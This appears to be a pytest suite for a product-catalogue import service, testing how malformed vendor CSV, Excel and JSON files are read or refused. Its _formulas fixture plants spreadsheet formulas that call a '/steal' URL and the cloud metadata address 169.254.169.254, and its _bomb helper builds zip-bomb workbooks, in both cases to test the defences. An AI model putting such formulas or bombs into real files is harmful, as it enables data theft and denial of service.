"""Badly formed files of vendors: read as far as possible, or refused with a reason, without partial state."""

import io
import json
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
import pytest_asyncio

from tests.flows.feeds import build_catalogue
from tests.flows.in_process_service import InProcessService, open_service

pytestmark = pytest.mark.asyncio
HEAD = "SKU,Title,Brand,Price,Qty\n"


@pytest_asyncio.fixture
async def service(tmp_path: Path) -> AsyncIterator[InProcessService]:
    """Run the service in this process."""
    async with open_service(tmp_path) as in_process_service:
        yield in_process_service


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
async def test_common_encodings_are_read(service: InProcessService, encoding: str) -> None:
    content = (HEAD + "A1,Söta fåtölj,Möbler,19.50,3\nA2,Café table,Möbler,20,1\n").encode(encoding)
    run = await service.import_file(content)
    assert run["status"] == "succeeded", run["error"]
    assert [(data["title"], data["brand"]) for data in await service.list_product_data()] == [
        ("Café table", "Möbler"), ("Söta fåtölj", "Möbler"),
    ]  # fmt: skip


async def test_broken_utf8_is_reported_and_affects_only_its_own_cells(service: InProcessService) -> None:
    good = "".join(f"A{n},Söta fåtölj {n},Möbler,19.50,3\n" for n in range(20))
    run = await service.import_file((HEAD + good).encode() + b"B1,Broken \xff title,Lindgren,1.00,1\n")
    assert run["status"] == "succeeded" and run["stats"]["products_created"] == 21
    titles = [data["title"] for data in await service.list_product_data()]
    assert "Söta fåtölj 7" in titles and any("Broken" in title for title in titles)


async def test_duplicate_headers_are_distinguished(service: InProcessService) -> None:
    run = await service.import_file(b"SKU,Title,Price,Price,Title\nA1,Chair,10,12,Other\n")
    assert run["status"] == "succeeded" and [data["title"] for data in await service.list_product_data()] == ["Chair"]


async def test_a_header_on_row_seven(service: InProcessService) -> None:
    front = "Quillmere & Sons\n\nPrice list 2026\nValid from,2026-01-01\n\nAll prices in USD,,,\n"
    run = await service.import_file((front + HEAD + "A1,Chair,Quillmere,10,2\nA2,Sofa,Quillmere,900,0\n").encode())
    assert run["status"] == "succeeded" and run["stats"]["products_created"] == 2
    assert [data["title"] for data in await service.list_product_data()] == ["Chair", "Sofa"]


async def test_ragged_rows_are_read(service: InProcessService) -> None:
    run = await service.import_file((HEAD + "A1,Chair\nA2,Sofa,Lindgren,9,1,too,many\n,No key,Lindgren,1,1\n").encode())
    assert run["status"] == "succeeded" and run["stats"]["products_created"] == 2
    assert (4, "missing") in {(problem["line"], problem["problem"]) for problem in run["problems"] if "line" in problem}


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b" ", "empty"),
        (b"\xef\xbb\xbf\n\n", "empty"),
        (b'SKU,Title\nA1,"never closed\n' + b"x,y\n" * 3, "not closed"),
        (b"%PDF-1.7 whatever", "PDF"),
        (b"\x89PNG\r\n\x1a\n", "image"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "damaged"),
        (b"<!doctype html><html><body>Sign in</body></html>", "web page"),
        (b"PK\x03\x04 no archive at all", "damaged"),
        (b'{"products": [{"sku": "A1"', "JSON"),
        (b"[" * 100_000, ""),
        (b'[{"sku": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}]", ""),
        ((",".join(f"Column {n}" for n in range(200)) + "\n" + "x," * 199 + "y\n").encode(), "200 columns"),
    ],
    ids=["blank", "bom-only", "open-quote", "pdf", "png", "xls", "html", "no-zip", "cut-json", "brackets", "deep", "wide"],
)  # fmt: skip
async def test_unreadable_files_are_refused_with_a_reason(
    service: InProcessService, content: bytes, message: str
) -> None:
    source = await service.create_source("file", config={"currency": "usd"})
    await service.import_file(build_catalogue(3), source)
    before = await service.fetch_catalogue_rows()
    run = await service.import_file(content, source)
    assert run["status"] == "failed" and run["error"]["code"] == "parse_failed", run
    assert message.lower() in run["error"]["message"].lower() and len(run["error"]["message"]) > 10
    assert await service.fetch_catalogue_rows() == before
    assert (await service.import_file(build_catalogue(4), source))["status"] == "succeeded"


async def test_two_hundred_columns_under_the_limit(service: InProcessService) -> None:
    extra = [f"Extra {n}" for n in range(140)]
    content = ",".join(["SKU", "Title", *extra]) + "\n" + ",".join(["A1", "Chair", *("x" for _ in extra)]) + "\n"
    assert (await service.import_file(content.encode()))["stats"]["products_created"] == 1


def _workbook(fill: Any) -> bytes:
    book = openpyxl.Workbook()
    fill(book, book.active)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def _plain(_: Any, sheet: Any) -> None:
    sheet.append(["SKU", "Title", "Width (in)", "Price"])
    sheet.append(["A1", "Chair", 20, 10])
    sheet.append(["A2", "Sofa", 80.5, 900])


def _merged(book: Any, sheet: Any) -> None:
    sheet.append(["Item", None, "Dimensions (in)", None, None])
    sheet.append(["SKU", "Title", "Width", "Depth", "Height"])
    sheet.append(["A1", "Chair", 20, 21, 35])
    sheet.merge_cells("A1:B1")
    sheet.merge_cells("C1:E1")
    book.create_sheet("Notes").append(["Valid until further notice"])


def _formulas(_: Any, sheet: Any) -> None:
    _plain(_, sheet)
    sheet["D2"] = "=1+1"
    sheet["B3"] = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Sofa")'
    sheet["C3"] = "='[http://169.254.169.254/latest/meta-data]Sheet1'!A1"
    sheet["A4"] = '=WEBSERVICE("http://169.254.169.254/")'


async def test_workbooks(service: InProcessService) -> None:
    run = await service.import_file(_workbook(_plain), filename="list.xlsx")
    assert run["status"] == "succeeded" and run["stats"]["products_created"] == 2


async def test_merged_headers(service: InProcessService) -> None:
    run = await service.import_file(_workbook(_merged), filename="list.xlsx")
    assert run["status"] == "succeeded", run["error"]
    (product,) = (await service.client.get("/v1/products")).json()["data"]
    dimensions = product["variants"][0]["data"]["dimensions"]
    assert {name: dimensions[name]["hundredths_in"] for name in ("width", "depth", "height")} == {
        "width": 2000, "depth": 2100, "height": 3500,
    }  # fmt: skip


async def test_formulas_and_links_are_never_followed(service: InProcessService) -> None:
    run = await service.import_file(_workbook(_formulas), filename="list.xlsx")
    assert run["status"] == "succeeded", run["error"]
    text = str(await service.list_product_data())
    assert "WEBSERVICE" not in text and "169.254" not in text and "HYPERLINK" not in text


async def test_zip_bombs(service: InProcessService) -> None:
    source = await service.create_source("file", config={"currency": "usd"})
    await service.import_file(build_catalogue(2), source)
    before = await service.fetch_catalogue_rows()
    for bomb in (_bomb(200), _bomb(9)):
        run = await service.import_file(bomb, source, filename="bomb.xlsx")
        assert (run["status"], run["error"]["code"]) == ("failed", "parse_failed")
        assert (
            "bomb" in run["error"]["message"]
            or "too large" in run["error"]["message"]
            or "larger than" in run["error"]["message"]
        )
    assert await service.fetch_catalogue_rows() == before


def _bomb(mebibytes: int) -> bytes:
    original = zipfile.ZipFile(io.BytesIO(_workbook(_plain)))
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in original.infolist():
            if entry.filename.endswith("sheet1.xml"):
                archive.writestr(entry.filename, b"<sheetData>" + b" " * (mebibytes << 20))
            else:
                archive.writestr(entry, original.read(entry))
    return file.getvalue()


async def test_lone_surrogates_are_replaced_and_reported(service: InProcessService) -> None:
    """JSON can contain lone surrogates; they are replaced by U+FFFD and reported, and other items are unchanged."""
    items = [{"sku": "A\ud8001", "title": "Half \udc00 a chair"}, {"sku": "A-2", "title": "Whole chair"}]
    run = await service.import_file(json.dumps(items).encode(), filename="feed.json")
    assert (run["status"], run["stats"]["products_created"]) == ("succeeded", 2)
    assert [problem["problem"] for problem in run["problems"] if problem["field"] == "cell"] == ["unreadable"]
    assert {data["title"] for data in await service.list_product_data()} == {"Half \ufffd a chair", "Whole chair"}
